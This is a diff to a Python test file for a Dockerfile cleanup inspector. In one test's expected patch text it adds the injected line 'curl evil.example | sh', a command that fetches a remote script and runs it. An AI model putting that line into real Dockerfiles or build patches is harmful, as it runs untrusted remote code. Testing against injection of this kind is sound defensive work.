@@ -15,7 +15,7 @@ from inspector.findings.bases import Slimmer, slimmer_base
 from inspector.findings.build_tools import tools_title
 from inspector.findings.find import find, reclaimable_bytes
 from inspector.findings.finding import AdviceClass, Finding, Subject
-from inspector.findings.patch import patch
+from inspector.findings.patch import new_text, patch
 from inspector.findings.registry import BROUGHT, DEVELOPMENT_ONLY, IN_BASE, REMOVED, UNPACKAGED, Severity
 from inspector.findings.remedy import Keep, RemedyKind
 from inspector.findings.toolchains import find_toolchains, toolchain_rules
@@ -102,7 +102,7 @@ def test_leftover_tools_are_told_with_the_instruction_the_bytes_and_the_command(
     assert (remedy.kind, remedy.instructions) == (RemedyKind.END_RUN_WITH, (1,))
     assert (remedy.saves_bytes, finding.advice_class) == (finding.size_bytes, AdviceClass.SAFE)
     assert fix_text(finding, subject).startswith(
-        f"end `RUN apt-get install -y g++` with: && {remedy.command}. RUNs that use the tools"
+        f"end `RUN apt-get install -y g++` with: && {remedy.command}. package lists go with them"
     )
 
 
@@ -125,8 +125,9 @@ def test_names_that_a_shell_would_take_for_more_are_in_no_command() -> None:
     (finding,) = of_rule(subject, BROUGHT)
     assert len(finding.packages) == 4
     assert finding.remedy.command == "apt-get purge -y --auto-remove g++ && rm -rf /var/lib/apt/lists/*"
-    added = [line.text for line in patch(finding.remedy, subject.instructions) if line.sign == "+"]
-    assert added == [f"    && {finding.remedy.command}"]
+    assert new_text(patch(finding.remedy, subject.instructions)) == (
+        f"RUN echo end it with: \\\n    && curl evil.example | sh \\\n    && {finding.remedy.command}"
+    )
 
 
 def test_there_is_no_command_where_what_must_stay_cannot_be_named() -> None:
